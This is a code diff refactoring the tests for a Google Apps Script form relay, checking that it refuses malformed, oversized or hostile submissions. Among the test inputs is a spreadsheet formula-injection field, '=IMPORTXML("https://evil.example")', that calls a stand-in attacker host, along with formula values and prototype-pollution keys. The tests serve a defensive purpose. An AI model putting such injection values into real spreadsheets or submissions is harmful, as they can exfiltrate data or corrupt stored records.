@@ -1,12 +1,7 @@
+import { FORMS } from '../src/submission/forms/index';
 import type { SubmissionKind } from '../src/submission/types';
-import {
-  buildApplicationPayload,
-  buildContactPayload,
-  buildCustomRequestPayload,
-  buildQuotePayload,
-} from '../src/submission/payloads';
 import { startScript, type Query, type RunningScript } from './testing/appsScript';
-import { application, contact, customRequest, dataUrl, newKey, pdf, quote } from './testing/submit';
+import { newKey, payloadOf } from './testing/submit';
 
 /** docs/apps-script.gs itself, on stand-ins for Google's services: refused requests. */
 let script: RunningScript;
@@ -21,25 +16,9 @@ const isUntouched = () => {
 };
 
 test('§3.12 §3.13 the script knows the fields of the payloads and no others', () => {
-  const person = { name: 'Ann Lee', email: 'ann@example.com', phone: '9876543210' };
-  const now = new Date();
-  const built: Record<SubmissionKind, object> = {
-    application: buildApplicationPayload(
-      { ...person, coverLetter: 'Dear all' },
-      '+91',
-      undefined,
-      { name: 'cv.pdf', dataUrl: dataUrl(pdf()) },
-      now,
-    ),
-    contact: buildContactPayload({ ...person, message: 'Hello' }, '+91', now),
-    quote: buildQuotePayload({ page: 'Gardens', plan: 'Plan A', currency: 'EUR' }, now),
-    'custom-request': buildCustomRequestPayload({ ...person, requirements: 'A lot' }, now),
-  };
-  const fieldsOf = (payload: object) => Object.keys(payload);
-  expect(script.fields).toEqual(
-    Object.fromEntries(Object.entries(built).map(([kind, payload]) => [kind, fieldsOf(payload)])),
-  );
-  for (const payload of Object.values(built)) expect(script.post(payload)).toEqual({ ok: true });
+  const built = (Object.keys(FORMS) as SubmissionKind[]).map((kind) => [kind, payloadOf(kind)] as const);
+  expect(script.fields).toEqual(Object.fromEntries(built.map(([kind, payload]) => [kind, Object.keys(payload)])));
+  for (const [, payload] of built) expect(script.post(payload)).toEqual({ ok: true });
   expect(script.rowCounts()).toEqual({ Applications: 1, Contact: 1, Quotes: 1, 'Custom requests': 1 });
 });
 
@@ -49,26 +28,29 @@ const many = Object.fromEntries(Array.from({ length: 10_000 }, (_, at) => [`fiel
 test.each<[string, unknown]>([
   ['broken JSON', '{"timestamp":'],
   ['null', 'null'],
-  ['a list', [contact()]],
+  ['a list', [payloadOf('contact')]],
   ['a text', '"targetGid"'],
   ['an object without fields', {}],
-  ['a tab that no form names', { ...contact(), targetGid: '7' }],
-  ['a targetGid that every object has', { ...contact(), targetGid: 'constructor' }],
-  ['a targetGid that is a number', { ...contact(), targetGid: 0 }],
-  ['a formula as a field', { ...contact(), '=IMPORTXML("https://evil.example")': 'x' }],
-  ['10,000 fields', { ...contact(), ...many }],
-  ['the id as a field', { ...contact(), submission: '=1+1' }],
-  ['__proto__ as a field', json(JSON.stringify(contact()).replace('{', '{"__proto__":"x",'))],
-  ['constructor as a field', { ...contact(), constructor: 'x' }],
-  ['a field of another kind', { ...contact(), requirements: 'A lot' }],
-  ['fields of two kinds', { ...quote(), requirements: 'A lot' }],
-  ['a list as a value', { ...contact(), message: ['=1+1'] }],
-  ['an object as a value', { ...contact(), message: { toString: '=1+1' } }],
-  ['a number as a value', { ...customRequest(), phone: 151 }],
-  ['null as a value', { ...contact(), message: null }],
-  ['more characters than a cell holds', application({ coverLetter: 'x'.repeat(60_000) })],
-  ['as many as it holds, which the mark for text makes too many', application({ coverLetter: 'x'.repeat(50_000) })],
-  ['a résumé that is no data URL', application({ resumeBase64: 'nonsense' })],
+  ['a tab that no form names', { ...payloadOf('contact'), targetGid: '7' }],
+  ['a targetGid that every object has', { ...payloadOf('contact'), targetGid: 'constructor' }],
+  ['a targetGid that is a number', { ...payloadOf('contact'), targetGid: 0 }],
+  ['a formula as a field', { ...payloadOf('contact'), '=IMPORTXML("https://evil.example")': 'x' }],
+  ['10,000 fields', { ...payloadOf('contact'), ...many }],
+  ['the id as a field', { ...payloadOf('contact'), submission: '=1+1' }],
+  ['__proto__ as a field', json(JSON.stringify(payloadOf('contact')).replace('{', '{"__proto__":"x",'))],
+  ['constructor as a field', { ...payloadOf('contact'), constructor: 'x' }],
+  ['a field of another kind', { ...payloadOf('contact'), requirements: 'A lot' }],
+  ['fields of two kinds', { ...payloadOf('quote'), requirements: 'A lot' }],
+  ['a list as a value', { ...payloadOf('contact'), message: ['=1+1'] }],
+  ['an object as a value', { ...payloadOf('contact'), message: { toString: '=1+1' } }],
+  ['a number as a value', { ...payloadOf('custom-request'), phone: 151 }],
+  ['null as a value', { ...payloadOf('contact'), message: null }],
+  ['more characters than a cell holds', payloadOf('application', { coverLetter: 'x'.repeat(60_000) })],
+  [
+    'as many as it holds, which the mark for text makes too many',
+    payloadOf('application', { coverLetter: 'x'.repeat(50_000) }),
+  ],
+  ['a résumé that is no data URL', payloadOf('application', { resumeBase64: 'nonsense' })],
 ])('§8 the script refuses %s and stores nothing', (_what, payload) => {
   for (const query of [{ submission: newKey() }, {}])
     expect(script.post(payload, query)).toEqual({ ok: false, error: expect.stringMatching(/\w/) });
@@ -84,18 +66,18 @@ test.each<[string, Query]>([
   ['another value of quarantine', { quarantine: 'yes' }],
   ['quarantine twice', 'quarantine=1&quarantine=1'],
 ])('§8 the script refuses %s in the address and stores nothing', (_what, query) => {
-  expect(script.post(contact(), query)).toEqual({ ok: false, error: expect.stringMatching(/\w/) });
+  expect(script.post(payloadOf('contact'), query)).toEqual({ ok: false, error: expect.stringMatching(/\w/) });
   isUntouched();
 });
 
 test('§8 a message for a tab that somebody deleted is answered with an error', () => {
   script.google.tabs.pop();
-  expect(script.post(contact(), { submission: newKey() })).toMatchObject({ ok: false });
+  expect(script.post(payloadOf('contact'), { submission: newKey() })).toMatchObject({ ok: false });
   expect(script.rowCounts()).toEqual({ Applications: 0 });
 });
 
 test('§8 an error names the field, but repeats no long text', () => {
-  const { error } = script.post({ ...contact(), ['x'.repeat(5000)]: '' });
+  const { error } = script.post({ ...payloadOf('contact'), ['x'.repeat(5000)]: '' });
   expect(error).toMatch(/x{20}/);
   expect(error?.length).toBeLessThan(200);
 });
@@ -107,7 +89,7 @@ describe('§8 with RELAY_SECRET the script stores only requests that carry it', 
   });
 
   test('a request with the secret is stored', () => {
-    expect(script.post(contact(), { submission: newKey(), secret })).toEqual({ ok: true });
+    expect(script.post(payloadOf('contact'), { submission: newKey(), secret })).toEqual({ ok: true });
     expect(script.rowCounts()).toMatchObject({ Contact: 1 });
   });
 
@@ -122,11 +104,11 @@ describe('§8 with RELAY_SECRET the script stores only requests that carry it', 
   ])('%s: refused, and nothing is read or stored', (_what, query) => {
     // A stranger who gets as far as the lock keeps the relay out.
     script.google.isLocked = true;
-    script.post(contact(), query);
+    script.post(payloadOf('contact'), query);
     script.post('{"timestamp":', query);
     expect(script.google.complaints.join()).not.toMatch(/lock|JSON/i);
     script.google.isLocked = false;
-    const answer = script.post(contact(), query);
+    const answer = script.post(payloadOf('contact'), query);
     expect(answer.ok).toBe(false);
     expect(JSON.stringify([answer, script.google.complaints])).not.toContain(secret);
     isUntouched();
@@ -134,7 +116,7 @@ describe('§8 with RELAY_SECRET the script stores only requests that carry it', 
 
   test.each(['', 'short'])('a property of %j is a mistake: no request passes', (value) => {
     script.google.properties.RELAY_SECRET = value;
-    expect(script.post(contact(), { secret: value })).toMatchObject({ ok: false });
+    expect(script.post(payloadOf('contact'), { secret: value })).toMatchObject({ ok: false });
     isUntouched();
   });
 });
